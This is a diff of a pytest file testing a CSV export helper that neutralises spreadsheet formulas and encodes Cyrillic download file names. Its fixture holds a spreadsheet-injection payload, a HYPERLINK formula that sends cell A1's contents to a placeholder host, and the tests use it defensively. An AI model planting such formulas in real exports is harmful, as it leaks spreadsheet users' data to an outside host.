@@ -8,7 +8,7 @@ import io
 
 import pytest
 
-from core.csvsafe import csv_bytes, safe_cell
+from core.csvsafe import csv_bytes, csv_response, safe_cell
 
 FORMULA = '=HYPERLINK("http://x/"&A1,"Click")'
 
@@ -39,3 +39,28 @@ def test_csv_bytes_neutralises_every_cell_and_keeps_the_cyrillic():
     assert content.startswith("\ufeff".encode())
     rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
     assert rows == [["Фамилия", "Surname"], ["'" + FORMULA, "'=1+1"], ["Аманов", "'-1"]]
+
+
+def test_csv_response_is_an_attachment_with_the_cyrillic_name_encoded_by_django():
+    response = csv_response(filename="участники.csv", header=["Имя"], rows=[["Аманов"]])
+
+    assert response["Content-Type"] == "text/csv; charset=utf-8"
+    assert response["Content-Disposition"] == (
+        "attachment; filename*=utf-8''%D1%83%D1%87%D0%B0%D1%81%D1%82%D0%BD%D0%B8%D0%BA%D0%B8.csv"
+    )
+
+
+def test_csv_response_quotes_an_ascii_name():
+    response = csv_response(filename="action-plan.csv", header=["a"], rows=[])
+
+    assert response["Content-Disposition"] == 'attachment; filename="action-plan.csv"'
+
+
+def test_csv_response_writes_the_header_then_the_rows_with_formulas_neutralised():
+    response = csv_response(
+        filename="x.csv", header=["Name", "Note"], rows=[["=1+1", "Аманов"], ["ok", FORMULA]],
+    )
+
+    assert response.content.startswith("\ufeff".encode())
+    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
+    assert rows == [["Name", "Note"], ["'=1+1", "Аманов"], ["ok", "'" + FORMULA]]
